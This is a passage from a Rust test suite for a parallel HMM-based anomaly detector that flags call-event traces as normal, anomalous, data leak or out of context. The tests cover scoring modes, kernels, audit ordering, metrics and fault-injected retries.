        let profile = cyclic_profile();
        let verdicts = BatchDetector::new(&profile).verdicts(&mixed_batch());
        assert_eq!(verdicts[0], Flag::Normal);
        assert_eq!(verdicts[1], Flag::Anomalous);
        assert_eq!(verdicts[2], Flag::DataLeak);
        assert_eq!(verdicts[3], Flag::Normal); // empty trace: nothing to score
        assert_eq!(verdicts[5], Flag::OutOfContext);
    }

    #[test]
    fn incremental_mode_agrees_on_flags_for_separated_traces() {
        // Incremental scores are conditional, so compare flags (the
        // detection outcome), not raw numbers, on traces whose normal and
        // attack likelihoods are far from the threshold.
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let exact = BatchDetector::new(&profile).verdicts(&batch);
        let incremental = BatchDetector::new(&profile)
            .with_mode(ScoringMode::Incremental)
            .verdicts(&batch);
        assert_eq!(exact, incremental);
    }

    #[test]
    fn incremental_window_set_matches_exact_mode() {
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let exact = BatchDetector::new(&profile).detect_batch(&batch);
        let incremental = BatchDetector::new(&profile)
            .with_mode(ScoringMode::Incremental)
            .detect_batch(&batch);
        for (e, inc) in exact.iter().zip(&incremental) {
            assert_eq!(e.alerts.len(), inc.alerts.len(), "trace {}", e.index);
            for (ae, ai) in e.alerts.iter().zip(&inc.alerts) {
                assert_eq!(ae.window, ai.window);
            }
        }
    }

    #[test]
    fn threshold_override_propagates_to_workers() {
        let profile = cyclic_profile();
        let mut detector = BatchDetector::new(&profile);
        detector.set_threshold(0.0); // everything scores below 0
        let verdicts = detector.verdicts(&[trace_of(&["a", "b", "c_Q7"])]);
        assert_ne!(verdicts[0], Flag::Normal);
    }

    #[test]
    fn detect_sessions_carries_session_ids_end_to_end() {
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
        let detector = BatchDetector::new(&profile)
            .with_registry(&registry)
            .with_audit(audit);
        let sessions: Vec<String> = vec!["conn-0".into(), "conn-1".into(), "conn-2".into()];
        let batch = vec![
            trace_of(&["a", "b", "c_Q7"]),          // normal
            trace_of(&["b", "a", "a"]),             // anomalous
            trace_of(&["a", "evil_exfil", "c_Q7"]), // data leak
        ];
        let reports = detector.detect_sessions(&sessions, &batch);
        for (i, report) in reports.iter().enumerate() {
            assert_eq!(report.index, i);
            assert_eq!(report.session.as_deref(), Some(sessions[i].as_str()));
        }
        assert_eq!(reports[2].verdict, Flag::DataLeak);
        // Audit records carry the originating session — and because the
        // batch audits post-hoc in input order, the sequence is pinned.
        let records = sink.records();
        assert_eq!(records.len(), 2);
        let audited_sessions: Vec<String> = records.iter().map(|r| r.session.clone()).collect();
        assert_eq!(audited_sessions, vec!["conn-1", "conn-2"]);
        assert!(records[0].seq < records[1].seq);
        // Anonymous batches leave the session empty.
        let anonymous = detector.detect_batch(&batch);
        assert!(anonymous.iter().all(|r| r.session.is_none()));
    }

    #[test]
    fn audit_sequence_is_deterministic_under_faults_and_threads() {
        // Satellite regression: the audit trail must come out in input
        // order with contiguous sequence numbers even when workers panic
        // and retry, at any thread count.
        use crate::resilience::{sites, FaultKind, FaultPlan, Trigger};
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        quiet_injected_panics();
        let profile = cyclic_profile();
        // Every trace alarms, so every trace contributes audit records.
        let batch = vec![
            trace_of(&["b", "a", "a"]),             // anomalous (1 window)
            trace_of(&["a", "evil_exfil", "c_Q7"]), // data leak (1 window)
            trace_of(&["b", "a", "a", "b"]),        // anomalous (2 windows)
        ];
        let sessions: Vec<String> = vec!["s-0".into(), "s-1".into(), "s-2".into()];
        let mut baseline: Option<Vec<(u64, String, String)>> = None;
        for threads in [1usize, 4, 8] {
            let sink = Arc::new(MemoryAuditSink::new());
            let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
            // Panic the middle trace once: it recovers on retry and must
            // not leave duplicate or out-of-order records.
            let injector = FaultPlan::new(21)
                .inject(
                    sites::WORKER_PANIC,
                    FaultKind::Panic,
                    Trigger::OnceForKeys([1u64].into()),
                )
                .arm();
            let detector = BatchDetector::new(&profile)
                .with_threads(threads)
                .with_faults(&injector)
                .with_audit(audit);
            let reports = detector.detect_sessions(&sessions, &batch);
            assert_eq!(reports[1].status, TraceStatus::Recovered(1));
            let got: Vec<(u64, String, String)> = sink
                .records()
                .iter()
                .map(|r| (r.seq, r.session.clone(), r.flag.clone()))
                .collect();
            // 4 alarms total, audited in input order with the log's
            // monotonic sequence: 0..4.
            assert_eq!(got.len(), 4, "{threads} threads");
            for (i, (seq, _, _)) in got.iter().enumerate() {
                assert_eq!(*seq, i as u64, "{threads} threads");
            }
            assert_eq!(
                got.iter().map(|(_, s, _)| s.as_str()).collect::<Vec<_>>(),
                vec!["s-0", "s-1", "s-2", "s-2"],
                "{threads} threads"
            );
            match &baseline {
                None => baseline = Some(got),
                Some(b) => assert_eq!(b, &got, "{threads} threads"),
            }
        }
    }

    #[test]
    fn batch_metrics_account_for_tasks_modes_and_reanchors() {
        let profile = cyclic_profile();
        let registry = Registry::new();
        let batch = mixed_batch();
        let exact = BatchDetector::new(&profile).with_registry(&registry);
        exact.detect_batch(&batch);
        let incremental = BatchDetector::new(&profile)
            .with_registry(&registry)
            .with_mode(ScoringMode::Incremental);
        incremental.detect_batch(&batch);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("batch.batches"), Some(2));
        assert_eq!(
            snap.counter("batch.tasks_spawned"),
            Some(2 * batch.len() as u64)
        );
        assert_eq!(
            snap.counter("batch.mode.exact_windows"),
            Some(batch.len() as u64)
        );
        assert_eq!(
            snap.counter("batch.mode.incremental"),
            Some(batch.len() as u64)
        );
        assert_eq!(
            snap.histograms["batch.trace_ns"].count,
            2 * batch.len() as u64
        );
        // The incremental pass fed every non-empty trace's events through
        // a sliding scorer; the smoothed cyclic profile never re-anchors.
        let total_events: u64 = batch.iter().map(|t| t.len() as u64).sum();
        assert_eq!(snap.counter("sliding.pushes"), Some(total_events));
        assert_eq!(snap.counter("sliding.reanchors"), Some(0));
        // Both passes scored every window and counted every flag kind.
        let windows = snap.counter("detect.windows_scored").unwrap();
        let flags: u64 = [
            "detect.flags.normal",
            "detect.flags.anomalous",
            "detect.flags.data_leak",
            "detect.flags.out_of_context",
        ]
        .iter()
        .map(|n| snap.counter(n).unwrap())
        .sum();
        assert!(windows > 0);
        assert_eq!(windows, flags);
    }

    #[test]
    fn sparse_kernel_batch_matches_dense_flags_in_both_modes() {
        use adprom_hmm::SparseConfig;
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let kernel = KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        };
        for mode in [ScoringMode::ExactWindows, ScoringMode::Incremental] {
            let dense = BatchDetector::new(&profile)
                .with_mode(mode)
                .detect_batch(&batch);
            let detector = BatchDetector::new(&profile)
                .with_mode(mode)
                .with_kernel(kernel);
            assert_eq!(detector.kernel_label(), "sparse");
            let sparse = detector.detect_batch(&batch);
            for (d, s) in dense.iter().zip(&sparse) {
                assert_eq!(d.verdict, s.verdict, "trace {} ({mode:?})", d.index);
                assert_eq!(d.alerts.len(), s.alerts.len());
                for (da, sa) in d.alerts.iter().zip(&s.alerts) {
                    assert_eq!(da.flag, sa.flag);
                    assert_eq!(da.window, sa.window);
                    assert!((da.log_likelihood - sa.log_likelihood).abs() < 1e-9);
                }
            }
        }
    }

    #[test]
    fn beam_kernel_batch_bounds_feed_the_gap_gauge() {
        use adprom_hmm::{BeamConfig, SparseConfig};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let detector = BatchDetector::new(&profile)
            .with_registry(&registry)
            .with_mode(ScoringMode::Incremental)
            .with_kernel(KernelConfig::Beam {
                sparse: SparseConfig::default(),
                beam: BeamConfig {
                    top_k: Some(2),
                    mass_epsilon: 0.0,
                },
            });
        assert_eq!(detector.kernel_label(), "beam");
        let reports = detector.detect_batch(&mixed_batch());
        assert_eq!(reports.len(), 6);
        let snap = registry.snapshot();
        // Top-2 pruning on a 4-symbol alphabet pruned states somewhere,
        // and the per-trace error bound reached the running-max gauge.
        assert!(snap.gauges["beam.gap_bound_micronats_max"] >= 0);
    }

    #[test]
    fn explicit_thread_pool_governs_reported_threads() {
        let profile = cyclic_profile();
        let detector = BatchDetector::new(&profile).with_threads(4);
        assert_eq!(detector.threads(), 4);
        // Output is independent of the pool size.
        let default_pool = BatchDetector::new(&profile);
        let batch = mixed_batch();
        assert_eq!(
            detector.detect_batch(&batch),
            default_pool.detect_batch(&batch)
        );
        // 0 restores the default.
        let restored = BatchDetector::new(&profile).with_threads(4).with_threads(0);
        assert_eq!(restored.threads(), rayon::current_num_threads());
    }

    /// Silences the default panic hook for fault-injected panics (they
    /// are expected; their backtraces would drown the test output).
    fn quiet_injected_panics() {
        static ONCE: std::sync::Once = std::sync::Once::new();
        ONCE.call_once(|| {
            let default = std::panic::take_hook();
            std::panic::set_hook(Box::new(move |info| {
                let injected = info
                    .payload()
                    .downcast_ref::<String>()
                    .is_some_and(|s| s.contains("fault-injected"));
                if !injected {
                    default(info);
                }
            }));
        });
    }

    #[test]
    fn injected_worker_panic_recovers_and_matches_fault_free_run() {
        use crate::resilience::{sites, FaultKind, FaultPlan, Health, HealthMonitor, Trigger};
        quiet_injected_panics();
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let clean = BatchDetector::new(&profile).detect_batch(&batch);

        let registry = Registry::new();
        let health = HealthMonitor::with_registry(&registry);
        let injector = FaultPlan::new(11)
            .inject(
                sites::WORKER_PANIC,
                FaultKind::Panic,
                Trigger::OnceForKeys([1u64, 4].into()),
            )
            .arm();
        let detector = BatchDetector::new(&profile)
            .with_registry(&registry)
            .with_health(health.clone())
            .with_faults(&injector);
        let reports = detector.detect_batch(&batch);

        assert_eq!(injector.injected(sites::WORKER_PANIC), 2);
        for (c, r) in clean.iter().zip(&reports) {
            assert_eq!(c.alerts, r.alerts, "trace {}", c.index);
            assert_eq!(c.verdict, r.verdict, "trace {}", c.index);
        }
        assert_eq!(reports[0].status, TraceStatus::Ok);
        assert_eq!(reports[1].status, TraceStatus::Recovered(1));
        assert_eq!(reports[4].status, TraceStatus::Recovered(1));
        assert_eq!(health.state(), Health::Degraded);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("resilience.worker_panics"), Some(2));
        assert_eq!(snap.counter("resilience.trace_retries"), Some(2));
        assert_eq!(snap.counter("resilience.traces_recovered"), Some(2));
        assert_eq!(snap.counter("resilience.traces_failed"), Some(0));
        assert_eq!(snap.gauge("health.state"), Some(1));
    }

    #[test]
    fn exhausted_retries_fail_the_trace_but_not_the_batch() {
        use crate::resilience::{
            sites, FaultKind, FaultPlan, Health, HealthMonitor, RetryPolicy, Trigger,
        };
        quiet_injected_panics();
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let health = HealthMonitor::new();
        // Always-firing panic on trace 2: retries cannot save it.
        let injector = FaultPlan::new(3)
            .inject(sites::WORKER_PANIC, FaultKind::Panic, Trigger::Always)
            .arm();
        let detector = BatchDetector::new(&profile)
            .with_health(health.clone())
            .with_retry(RetryPolicy {
                max_retries: 1,
                backoff: std::time::Duration::ZERO,
                watchdog: None,
            })
            .with_faults(&injector);
        let reports = detector.detect_batch(&batch[..2]);
        for report in &reports {
            assert!(matches!(report.status, TraceStatus::Failed(_)));
            assert!(report.alerts.is_empty());
            assert_eq!(report.verdict, Flag::Normal);
        }
        assert_eq!(health.state(), Health::Failed);
        assert!(health.reasons().iter().any(|r| r.contains("unrecoverable")));
    }

    #[test]
    fn poisoned_profile_downgrades_kernel_to_dense() {
        use crate::resilience::{Health, HealthMonitor};
        use adprom_hmm::SparseConfig;
        let mut profile = cyclic_profile();
        // Break row-stochasticity (finite, so scores stay comparable) —
        // enough for CSR validation to refuse the sparse build.
        profile.hmm.a_row_mut(0)[0] += 0.25;
        let batch = vec![trace_of(&["a", "b", "c_Q7"])];

        let registry = Registry::new();
        let health = HealthMonitor::with_registry(&registry);
        let detector = BatchDetector::new(&profile)
            .with_kernel(KernelConfig::Sparse {
                sparse: SparseConfig::default(),
            })
            .with_registry(&registry)
            .with_health(health.clone());
        assert_eq!(detector.kernel_label(), "dense", "downgraded");
        assert!(detector.kernel_fallback().unwrap().contains("sparse"));
        // The unified status carries requested vs effective explicitly.
        let status = detector.kernel_status();
        assert_eq!(status.requested, "sparse");
        assert_eq!(status.effective, "dense");
        assert!(status.fell_back());

        // Degraded mode is bit-identical to an explicit dense run.
        let dense = BatchDetector::new(&profile).detect_batch(&batch);
        let degraded = detector.detect_batch(&batch);
        assert_eq!(dense[0].alerts, degraded[0].alerts);

        // Surfaced once, at first use, regardless of builder order.
        detector.detect_batch(&batch);
        assert_eq!(health.state(), Health::Degraded);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("resilience.kernel_fallbacks"), Some(1));

        // A healthy profile keeps the requested kernel.
        let healthy = cyclic_profile();
        let ok = BatchDetector::new(&healthy).with_kernel(KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        });
        assert_eq!(ok.kernel_label(), "sparse");
        assert_eq!(ok.kernel_fallback(), None);
    }

    #[test]
    fn watchdog_trips_on_injected_slow_score() {
        use crate::resilience::{
            sites, FaultKind, FaultPlan, Health, HealthMonitor, RetryPolicy, Trigger,
        };
        let profile = cyclic_profile();
        let registry = Registry::new();
        let health = HealthMonitor::new();
        let injector = FaultPlan::new(9)
            .inject(
                sites::SLOW_SCORE,
                FaultKind::SlowScore { millis: 20 },
                Trigger::OnceForKeys([0u64].into()),
            )
            .arm();
        let detector = BatchDetector::new(&profile)
            .with_registry(&registry)
            .with_health(health.clone())
            .with_retry(RetryPolicy {
                max_retries: 0,
                backoff: std::time::Duration::ZERO,
                watchdog: Some(std::time::Duration::from_millis(5)),
            })
            .with_faults(&injector);
        let reports = detector.detect_batch(&[trace_of(&["a", "b", "c_Q7"])]);
        // Slow, not wrong: the verdict stands, health says degraded.
        assert_eq!(reports[0].status, TraceStatus::Ok);
        assert_eq!(reports[0].verdict, Flag::Normal);
        assert_eq!(health.state(), Health::Degraded);
        assert_eq!(
            registry.snapshot().counter("resilience.watchdog_trips"),
            Some(1)
        );
    }

    #[test]
    fn fault_schedule_is_independent_of_thread_count() {
        use crate::resilience::{sites, FaultKind, FaultPlan, Trigger};
        quiet_injected_panics();
        let profile = cyclic_profile();
        let batch: Vec<Vec<CallEvent>> = (0..32)
            .map(|i| {
                if i % 2 == 0 {
                    trace_of(&["a", "b", "c_Q7"])
                } else {
                    trace_of(&["b", "a", "a"])
                }
            })
            .collect();
        let run = |threads: usize| -> Vec<TraceReport> {
            let injector = FaultPlan::new(77)
                .inject(
                    sites::WORKER_PANIC,
                    FaultKind::Panic,
                    Trigger::OnceForKeys([3u64, 17, 30].into()),
                )
                .arm();
            BatchDetector::new(&profile)
                .with_threads(threads)
                .with_faults(&injector)
                .detect_batch(&batch)
        };
        let serial = run(1);
        for threads in [2, 4, 8] {
            assert_eq!(serial, run(threads), "{threads} threads");
        }
        assert_eq!(serial[3].status, TraceStatus::Recovered(1));
        assert_eq!(serial[17].status, TraceStatus::Recovered(1));
        assert_eq!(serial[30].status, TraceStatus::Recovered(1));
    }

    #[test]
    fn large_batch_keeps_input_order() {
        let profile = cyclic_profile();
        let detector = BatchDetector::new(&profile);
        // Alternate normal / anomalous traces; order must survive the pool.
        let batch: Vec<Vec<CallEvent>> = (0..64)
            .map(|i| {
                if i % 2 == 0 {
                    trace_of(&["a", "b", "c_Q7"])
                } else {
                    trace_of(&["b", "a", "a"])
                }
            })
            .collect();
        let reports = detector.detect_batch(&batch);
        assert_eq!(reports.len(), 64);
        for (i, r) in reports.iter().enumerate() {
            assert_eq!(r.index, i);
            let expected = if i % 2 == 0 {
                Flag::Normal
            } else {
                Flag::Anomalous
            };
            assert_eq!(r.verdict, expected, "trace {i}");
        }
    }
}
